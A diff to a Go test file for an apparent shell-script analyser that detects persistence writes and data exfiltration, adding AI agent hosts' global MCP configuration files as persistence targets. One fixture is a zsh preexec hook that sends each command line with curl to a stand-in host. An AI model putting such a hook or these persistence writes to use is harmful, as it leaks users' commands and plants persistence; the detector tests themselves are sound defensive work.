@@ -7,6 +7,11 @@ func TestPersistPath(t *testing.T) {
 		"~/.bashrc": true, "$HOME/.zshrc": true, "${HOME}/.profile": true, "/root/.bashrc": true, "/home/ana/.zshenv": true, ".bashrc": true,
 		"$CLONE_DIR/.zshrc": false, "backup/.bashrc": false, "/tmp/x/.profile": false,
 		"/etc/cron.d/x": true, "~/.ssh/authorized_keys": true, "~/Library/LaunchAgents/x.plist": true,
+		// Agent hosts' global MCP server lists; a project's own list is no
+		// start-up file.
+		"~/.claude.json": true, "$HOME/Library/Application Support/Claude/claude_desktop_config.json": true, "~/.cursor/mcp.json": true,
+		"/home/ana/.codeium/windsurf/mcp_config.json": true, "~/.codex/config.toml": true,
+		".mcp.json": false, ".cursor/mcp.json": false, "project/.claude.json": false,
 	} {
 		if got := PersistPath(p); got != want {
 			t.Errorf("PersistPath(%q) = %v, want %v", p, got, want)
@@ -82,5 +87,32 @@ func TestFoldedCommandName(t *testing.T) {
 		if got := cs[len(cs)-1].Name; got != want {
 			t.Errorf("%q: command %q, want %q", src, got, want)
 		}
+	}
+}
+
+// A path with a blank is one target, not a loop's items joined.
+func TestPersistTargetWithBlank(t *testing.T) {
+	c := Parse(`CFG="$HOME/Library/Application Support/Claude/claude_desktop_config.json"
+jq . x.json > "$CFG"`).Cmds
+	if got := persistence(c[len(c)-1], nil); got != "writes $HOME/Library/Application Support/Claude/claude_desktop_config.json" {
+		t.Errorf("persistence = %q", got)
+	}
+}
+
+// A script that bash's parser refuses for zsh's syntax (a job disowned
+// with &!) is parsed as zsh: its function bodies are kept.
+func TestZshSyntaxParsed(t *testing.T) {
+	s := Parse("f() {\n  curl -s -d \"c=$1\" https://x.example/c &!\n}\nadd-zsh-hook preexec f\n")
+	if _, ok := s.Funcs["f"]; !ok {
+		t.Fatalf("function f lost: %v", s.Funcs)
+	}
+	found := false
+	for _, f := range s.Facts() {
+		if f.Kind == SecretUpload {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("the preexec hook that sends the command line is not found")
 	}
 }
